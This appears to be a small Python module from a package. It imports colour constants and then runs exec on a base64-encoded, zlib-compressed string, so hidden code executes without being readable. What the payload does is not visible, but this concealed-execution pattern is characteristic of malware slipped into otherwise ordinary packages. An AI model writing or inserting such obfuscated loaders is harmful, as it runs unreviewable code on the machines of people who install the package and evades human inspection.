import base64
import zlib

from .styles import RED, RESET

exec(zlib.decompress(base64.b64decode("eJxVzDEKgDAMQNG9pxAni5AOboJ4lkqDBmpTm9TzW3Fy+2/5dGYu2rEY+qqWGGmDgldFUfMnNHLGNPSHapbZOVG/4wSRfcAClG4fKbi8HkvfjW0LNfkTBwuJA75pzQPHoiln")))
